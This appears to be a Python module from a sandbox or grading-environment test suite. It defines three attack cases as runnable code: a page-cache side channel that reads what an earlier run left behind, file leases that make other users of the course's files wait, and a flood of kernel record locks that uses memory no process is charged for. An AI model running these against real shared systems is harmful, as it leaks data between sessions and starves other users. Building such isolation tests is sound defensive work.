"""Attacks that leave a message where a later run, or everybody on the machine, finds it."""

from attacks_base import Attack, code

CACHE = code("""
    import os
    CARRY = [os.path.join(top, name) for top, _, names in sorted(os.walk('/usr/share'))
             for name in sorted(names) if not os.path.islink(os.path.join(top, name))][-64:]
    def cached(path):
        fd = os.open(path, os.O_RDONLY)
        try:
            os.preadv(fd, [bytearray(16)], 0, os.RWF_NOWAIT)
            return 1
        except BlockingIOError:
            return 0
        finally:
            os.close(fd)
    print('READ' + ' BACK', [cached(path) for path in CARRY])
""")
LEASES = code("""
    import fcntl, glob, os, signal
    signal.signal(signal.SIGIO, signal.SIG_IGN)
    held = []
    for name in glob.glob(KNOWS['package'] + '/*.py')[:3]:
        for command in (fcntl.F_SETLEASE, fcntl.F_SETLEASE | 1 << 32):
            try:
                fd = os.open(name, os.O_RDONLY)
                fcntl.fcntl(fd, command, fcntl.F_WRLCK)
                held.append(fd)
            except (OSError, OverflowError):
                pass
    FOUND = held
""")
LOCKS = code("""
    import fcntl, os
    file = open('/tmp/locked', 'wb')
    for place in range(400_000, 0, -2):
        fcntl.lockf(file, fcntl.LOCK_EX, 1, place)
    inode = os.fstat(file.fileno()).st_ino
    FOUND = [line for line in open('/proc/locks') if f':{inode} ' in line]
""")
REMEMBERING = (
    Attack(
        "message_in_the_cache",
        "asks which files of the system are in memory, where an earlier run could have put them",
        cells=(CACHE,),
        honest=(1, 2, 3, 4),
        leaks=("READ BACK",),
    ),
    Attack(
        "leases",
        "takes leases on the course's files, for which everybody else who opens them must wait",
        cells=(LEASES,),
        prize=(2, 3),
        honest=(1, 4),
    ),
    Attack(
        "record_locks",
        "hundreds of thousands of record locks: memory of the kernel that no process counts as its own",
        cells=(LOCKS,),
        prize=(2, 3),
        honest=(1, 4),
    ),
)
